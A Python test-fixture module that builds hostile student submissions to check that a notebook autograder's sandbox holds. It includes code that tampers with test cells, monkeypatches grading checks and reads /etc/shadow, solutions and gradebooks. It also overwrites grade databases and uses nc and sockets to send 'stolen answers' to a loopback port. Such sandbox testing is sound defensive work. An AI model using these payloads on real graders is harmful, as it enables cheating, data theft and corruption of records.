"""Broken and hostile submissions of notebook 01, each built from the release plus an edit.

Every fault is a Fault: how to write the submission (answers over the solution's,
an edit of the notebook, or raw files), and the exact outcome the grader must
record (a failure with a reason, or every test cell's score). tests/test_faults.py
grades them all in one run; tests/class_run.py mixes them into a class.

Faults that aim outside the sandbox need to know where things are: build them with
a Targets (the repository, the grading folder, a loopback port that must hear nothing).
"""
import json
import os
import textwrap
from dataclasses import dataclass, field

import nbformat

from submissions import cell_by_id, solution_answers, write_submission

ASSIGNMENT = "01-logistic-regression"
NOTEBOOK = "logistic_regression.ipynb"

POINTS = {"test_sigmoid": 1, "test_sigmoid_hidden": 1, "test_compute_cost": 1, "test_compute_cost_hidden": 2,
          "test_compute_gradient": 1, "test_compute_gradient_hidden": 2, "test_gradient_descent": 1,
          "test_gradient_descent_hidden": 2, "test_predict": 1, "test_predict_hidden": 1, "test_accuracy": 2}
MAX_SCORE = sum(POINTS.values())

# predict returns probabilities: test_predict, test_predict_hidden and test_accuracy fail, nothing else.
WRONG_PREDICT = "def predict(X, w, b):\n    return sigmoid(X @ w + b)"
WRONG_PREDICT_ZEROS = ("test_predict", "test_predict_hidden", "test_accuracy")

# Strings only the hidden tests contain: none may reach a student's feedback, or a kernel's output.
HIDDEN_SECRETS = ("BEGIN HIDDEN TESTS", "default_rng(101)", "default_rng(202)", "default_rng(303)",
                  "default_rng(404)", "default_rng(505)", "LogisticRegression(C=", "labels=[0, 1]",
                  "_X @ _w + 0.1 >= 0", "compute_cost with m=", "w after 1500 iterations")
# Strings only the solution notebook contains.
SOLUTION_SECRETS = ("BEGIN SOLUTION", "np.logaddexp(0.0, z) - y * z")


@dataclass
class Targets:
    repo: str = "/nonexistent"
    course: str = "/nonexistent"      # the grading run's --out folder (gradebook.db, submitted/, ...)
    port: int = 9                    # a loopback port the test listens on


@dataclass
class Fault:
    item: int                        # the numbered fault this exercises
    what: str
    answers: dict = field(default_factory=dict)    # grade_id -> source, over the solution's answers
    edit: object = None              # edit(nb) -> None, changes the filled-in notebook
    files: object = None             # files(folder) -> None, writes the assignment folder itself
    failed: str = ""                 # expected: the submission fails, the error contains this
    zeros: tuple = ()                # expected: these test cells score 0, every other one full marks


def _index(nb, grade_id):
    return nb.cells.index(cell_by_id(nb, grade_id))


def _after(grade_id, code):
    """The solution's answer for grade_id with code run after it."""
    return {grade_id: solution_answers(ASSIGNMENT)[grade_id] + "\n\n" + textwrap.dedent(code).strip()}


# ------------------------------------------------------------------ edits of test cells (item 5)

def _edit_and_empty(nb):
    cell_by_id(nb, "test_predict").source = 'passed("predict")'
    cell_by_id(nb, "test_predict_hidden").source = ""


def _delete_tests(nb):
    for grade_id in ("test_predict", "test_predict_hidden", "test_accuracy", "test_compute_cost", "imports"):
        del nb.cells[_index(nb, grade_id)]


def _tamper_metadata(nb):
    cell_by_id(nb, "test_predict").metadata["nbgrader"]["points"] = 100
    hidden = cell_by_id(nb, "test_predict_hidden")
    hidden.cell_type = "markdown"
    hidden.metadata["nbgrader"]["cell_type"] = "markdown"
    hidden.pop("outputs", None)
    hidden.pop("execution_count", None)
    accuracy = cell_by_id(nb, "test_accuracy").metadata["nbgrader"]
    accuracy["grade"], accuracy["solution"] = False, True
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 1000, "schema_version": 3,
        "solution": False, "task": False}}))


def _tamper_ids(nb):
    copy = nbformat.v4.new_code_cell("pass", metadata=json.loads(json.dumps(cell_by_id(nb, "test_predict").metadata)))
    nb.cells.insert(_index(nb, "test_predict") + 1, copy)
    cell_by_id(nb, "test_predict_hidden").metadata["nbgrader"]["grade_id"] = "my_own_test"
    answer = json.loads(json.dumps(cell_by_id(nb, "predict").metadata))
    nb.cells.insert(_index(nb, "predict"), nbformat.v4.new_code_cell("x = 1", metadata=answer))


# ------------------------------------------------------------------ monkeypatching (item 6)

PATCH_MODULES = """
import builtins, numpy, utils, utils.checks
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
numpy.array_equal = lambda *a, **k: True
numpy.isin = lambda a, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
utils.checks.check_close = utils.checks.check_binary = utils.checks.check_shape = lambda *a, **k: None
utils.checks.passed = lambda *a, **k: print("passed")
check_close = check_binary = check_shape = lambda *a, **k: None
builtins.all = builtins.any = lambda *a, **k: True
"""

PATCH_AT_CALL_TIME = """
def predict(X, w, b):
    import numpy, utils.checks
    noop = lambda *a, **k: None
    globals().update(check_close=noop, check_binary=noop, check_shape=noop)
    utils.checks.check_close = utils.checks.check_binary = noop
    numpy.allclose = lambda *a, **k: True
    return sigmoid(X @ w + b)
"""

PATCH_CODE_OBJECTS = """
import utils.checks
_noop = lambda *a, **k: None
utils.checks.check_close.__code__ = _noop.__code__
utils.checks.check_binary.__code__ = _noop.__code__
utils.checks.check_close.__defaults__ = utils.checks.check_binary.__defaults__ = None
utils.checks.check_close.__kwdefaults__ = utils.checks.check_binary.__kwdefaults__ = None
"""

PATCH_IPYTHON = """
def _blank_tests(lines):
    text = "".join(lines)
    return [] if ("check_" in text or "passed(" in text) else lines
get_ipython().input_transformers_cleanup.append(_blank_tests)
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
"""


def _shadow_utils(folder):
    """A utils/ package beside the notebook whose checks accept anything."""
    package = os.path.join(folder, "utils")
    os.makedirs(package, exist_ok=True)
    with open(os.path.join(package, "__init__.py"), "w") as f:
        f.write("from utils.checks import *\n"
                "def load_digits_01(*a, **k):\n    raise SystemExit\n")
    with open(os.path.join(package, "checks.py"), "w") as f:
        f.write("def _ok(*a, **k):\n    return None\n"
                "check_close = check_binary = check_shape = check_probabilities = check_unchanged = _ok\n"
                "def check_no_warnings(name, fn, *args):\n    return fn(*args)\n"
                "def passed(name):\n    print('ok')\n")


# ------------------------------------------------------------------ reaching outside (items 7, 8, 9)

def _leak_code(t):
    return f"""
import glob, os
_found = []
_targets = [{t.repo!r} + "/solutions/01-logistic-regression/{NOTEBOOK}", {t.course!r} + "/gradebook.db",
            {t.repo!r} + "/autograder/nbgrader_config.py", "/etc/shadow", "/root/.bash_history"]
_targets += glob.glob({t.course!r} + "/**/*.ipynb", recursive=True)
_targets += glob.glob("/tmp/grade-*/**", recursive=True) + glob.glob("../../**", recursive=True)
_targets += glob.glob("*.ipynb") + glob.glob("../*/*.ipynb") + glob.glob("../../source/**", recursive=True)
for _root, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in ("/proc", "/sys", "/dev", "/usr")
                and ".venv" not in d and ".pyenv" not in d]
    _targets += [os.path.join(_root, f) for f in _files if f.endswith((".ipynb", ".db"))]
for _path in _targets:
    try:
        with open(_path, "rb") as _f:
            _data = _f.read()
        if b"HIDDEN" in _data or b"SOLUTION" in _data or _path.endswith(".db") or "shadow" in _path:
            _found.append(_path)
            print("LEAKED", _path, _data[:20000].decode("utf-8", "replace"))
    except OSError:
        pass
print("leak attempt found", len(_found), "files")
"""


def _write_code(t):
    return f"""
import glob, os, sqlite3
_hits = []
for _path in [{t.course!r} + "/gradebook.db", "/tmp/grade-victim/gradebook.db"] + glob.glob("/tmp/grade-*/gradebook.db"):
    try:
        _db = sqlite3.connect(_path)
        _db.execute("update grade set auto_score = 0")
        _db.execute("update grade_cells set max_score = 0")
        _db.commit()
        _hits.append(_path)
    except Exception:
        pass
for _path in glob.glob({t.course!r} + "/submitted/*/*/*.ipynb") + glob.glob({t.course!r} + "/autograded/*/*/*"):
    try:
        with open(_path, "w") as _f:
            _f.write("overwritten by an attacker")
        _hits.append(_path)
    except OSError:
        pass
for _path in [{t.repo!r} + "/solutions/PWNED", {t.repo!r} + "/PWNED", {t.course!r} + "/PWNED"]:
    try:
        open(_path, "w").write("pwned")
        _hits.append(_path)
    except OSError:
        pass
print("write attempt reached", _hits)
"""


def _network_code(t):
    return f"""
import os, socket, urllib.request
os.system("touch {t.repo}/PWNED-by-os-system {t.course}/PWNED-by-os-system 2>/dev/null; "
          "echo hello | nc -w 1 127.0.0.1 {t.port} 2>/dev/null")
_reached = []
for _host in ("127.0.0.1", "localhost", "::1"):
    try:
        with socket.create_connection((_host, {t.port}), timeout=2) as _s:
            _s.sendall(b"stolen answers")
        _reached.append(_host)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{t.port}/exfiltrate", timeout=2)
    _reached.append("http")
except Exception:
    pass
print("network reached", _reached)
"""


def faults(targets=None):
    """{student name: Fault} for every fault; targets says where the outside-world attacks aim."""
    t = targets or Targets()
    return {
        # 1. time
        "fault-infinite-loop": Fault(1, "an answer cell loops forever after defining its function",
                                     answers=_after("compute_cost", "while True:\n    pass")),
        "fault-deadline": Fault(1, "sigmoid loops forever: every test calling it times out until the "
                                   "notebook's deadline, then the rest are not run",
                                answers={"sigmoid": "def sigmoid(z):\n    while True:\n        pass"},
                                zeros=tuple(k for k in POINTS if k not in ("test_compute_cost",
                                                                          "test_compute_cost_hidden"))),
        # 2. the kernel dies
        "fault-os-exit": Fault(2, "os._exit(1) in an answer cell", answers=_after("sigmoid", "import os\nos._exit(1)"),
                               failed="the grading kernel died while running cell"),
        "fault-segfault": Fault(2, "a segfault through ctypes",
                                answers=_after("compute_cost", "import ctypes\nctypes.string_at(0)"),
                                failed="signal SIGSEGV"),
        # 3. memory
        # The chunks are reserved, not written: RLIMIT_AS counts address space either way,
        # and first touches of a fresh VM's memory run at ~0.4 GB/s, which would make this
        # a test of the machine's RAM rather than of the limit.
        "fault-memory-bomb": Fault(3, "reserves 100 MB chunks until the address-space limit stops it",
                                   answers=_after("compute_gradient", """
                                       def _bomb():
                                           chunks = []
                                           try:
                                               while True:
                                                   chunks.append(np.empty(100 * 1024 ** 2, dtype=np.uint8))
                                           finally:
                                               print("reserved MiB:", 100 * len(chunks))
                                       _bomb()""")),
        # 4. output
        "fault-output-flood": Fault(4, "prints a million lines",
                                    answers=_after("sigmoid", "for _i in range(1_000_000):\n    print(_i)")),
        # 5. test cells and their metadata
        "fault-tests-edited": Fault(5, "test_predict edited to pass, test_predict_hidden emptied; predict wrong",
                                    answers={"predict": WRONG_PREDICT}, edit=_edit_and_empty,
                                    zeros=WRONG_PREDICT_ZEROS),
        "fault-tests-deleted": Fault(5, "test cells and the locked imports cell deleted; predict wrong",
                                     answers={"predict": WRONG_PREDICT}, edit=_delete_tests,
                                     zeros=WRONG_PREDICT_ZEROS),
        "fault-metadata": Fault(5, "points raised, a test turned into markdown, a test turned into an answer "
                                   "cell, a 1000-point cell added; predict wrong",
                                answers={"predict": WRONG_PREDICT}, edit=_tamper_metadata, zeros=WRONG_PREDICT_ZEROS),
        "fault-ids": Fault(5, "a test's id duplicated on a `pass` cell, a hidden test's id renamed, an answer "
                              "id duplicated; predict wrong",
                           answers={"predict": WRONG_PREDICT}, edit=_tamper_ids, zeros=WRONG_PREDICT_ZEROS),
        # 6. checkers monkeypatched
        "fault-patch-modules": Fault(6, "numpy and utils checkers, builtins and the notebook's names replaced by "
                                        "no-ops in an answer cell; predict wrong",
                                     answers={"predict": WRONG_PREDICT + "\n" + PATCH_MODULES},
                                     zeros=WRONG_PREDICT_ZEROS),
        "fault-patch-at-call-time": Fault(6, "predict replaces the checkers each time a test calls it; predict wrong",
                                          answers={"predict": PATCH_AT_CALL_TIME}, zeros=WRONG_PREDICT_ZEROS),
        "fault-patch-code-objects": Fault(6, "the checkers' __code__ swapped for a no-op's; predict wrong",
                                          answers={"predict": WRONG_PREDICT + "\n" + PATCH_CODE_OBJECTS},
                                          zeros=WRONG_PREDICT_ZEROS),
        "fault-patch-ipython": Fault(6, "an input transformer that blanks test cells and a handler that swallows "
                                        "their errors; predict wrong",
                                     answers={"predict": WRONG_PREDICT + "\n" + PATCH_IPYTHON},
                                     zeros=WRONG_PREDICT_ZEROS),
        "fault-shadow-utils": Fault(6, "a utils/ package beside the notebook with no-op checkers; predict wrong",
                                    answers={"predict": WRONG_PREDICT}, files=_shadow_utils,
                                    zeros=WRONG_PREDICT_ZEROS),
        # 7-9. reaching outside the kernel
        "fault-read-secrets": Fault(7, "globs for solutions/, gradebooks, other students and the graded notebook",
                                    answers=_after("predict", _leak_code(t))),
        "fault-write-outside": Fault(8, "writes the gradebooks, other students' notebooks and the repository",
                                     answers=_after("predict", _write_code(t))),
        "fault-network": Fault(9, "os.system and connections to a loopback listener",
                               answers=_after("predict", _network_code(t))),
        # 10. warnings on stderr
        "fault-stderr-warnings": Fault(10, "a correct solution that warns and writes to stderr", answers={
            **_after("compute_cost", "import warnings\n_plain_cost = compute_cost\n"
                                     "def compute_cost(X, y, w, b):\n"
                                     "    warnings.warn('compute_cost: just a warning', UserWarning)\n"
                                     "    return _plain_cost(X, y, w, b)"),
            **_after("predict", "import sys\n_plain_predict = predict\n"
                                "def predict(X, w, b):\n    print('predict: a note on stderr', file=sys.stderr)\n"
                                "    return _plain_predict(X, w, b)")}),
        # 11. unreadable, missing, renamed notebooks, empty folders
        "fault-not-json": Fault(11, "the notebook file is not JSON",
                                files=lambda folder: _write(folder, NOTEBOOK, "{ this is not json"),
                                failed=f"{NOTEBOOK} is not a valid notebook"),
        "fault-missing-notebook": Fault(11, "the assignment folder holds no notebook",
                                        files=lambda folder: _write(folder, "notes.txt", "my answers are on paper"),
                                        failed=f"no {NOTEBOOK} in the submission"),
        "fault-renamed-notebook": Fault(11, "the notebook was renamed",
                                        files=lambda folder: _copy_solution_as(folder, "logistic_regression (1).ipynb"),
                                        failed="rename it to " + NOTEBOOK),
        "fault-empty-assignment-folder": Fault(11, "an empty assignment folder", files=lambda folder: None,
                                               failed=f"the {ASSIGNMENT} folder is empty"),
        "fault-empty-student-folder": Fault(11, "a student folder with nothing in it", files="no assignment folder",
                                            failed="no assignment folder in the submission"),
        # 12. hidden tests stay hidden
        "fault-hidden-failures": Fault(12, "answers that fail hidden tests with messages quoting hidden data",
                                       answers={"compute_cost": "def compute_cost(X, y, w, b):\n"
                                                                "    return float((2 * np.log(4 / 3) + np.log(4)) / 3)",
                                                "predict": WRONG_PREDICT},
                                       zeros=("test_compute_cost_hidden", "test_compute_gradient", "test_accuracy",
                                              "test_predict", "test_predict_hidden")),
    }


HONEST = {"honest-solution": {}, "honest-mistake": {"predict": WRONG_PREDICT}}


def _write(folder, name, text):
    with open(os.path.join(folder, name), "w") as f:
        f.write(text)


def _copy_solution_as(folder, name):
    write_submission(os.path.dirname(os.path.dirname(folder)), os.path.basename(os.path.dirname(folder)),
                     ASSIGNMENT, solution_answers(ASSIGNMENT))
    os.rename(os.path.join(folder, NOTEBOOK), os.path.join(folder, name))


def write_fault(root, student, fault):
    """Write one fault's submission as root/student/01-logistic-regression/."""
    if fault.files == "no assignment folder":
        os.makedirs(os.path.join(root, student), exist_ok=True)
        return os.path.join(root, student)
    folder = os.path.join(root, student, ASSIGNMENT)
    if fault.files is not None and not fault.answers and fault.edit is None:
        os.makedirs(folder, exist_ok=True)
        fault.files(folder)
        return folder
    write_submission(root, student, ASSIGNMENT, {**solution_answers(ASSIGNMENT), **fault.answers}, edit=fault.edit)
    if fault.files is not None:
        fault.files(folder)
    return folder


def write_honest(root, student, changes=None):
    return write_submission(root, student, ASSIGNMENT, {**solution_answers(ASSIGNMENT), **(changes or {})})


def expected_grades(fault_or_zeros):
    zeros = fault_or_zeros.zeros if isinstance(fault_or_zeros, Fault) else tuple(fault_or_zeros)
    return {cell: (0.0 if cell in zeros else float(points)) for cell, points in POINTS.items()}
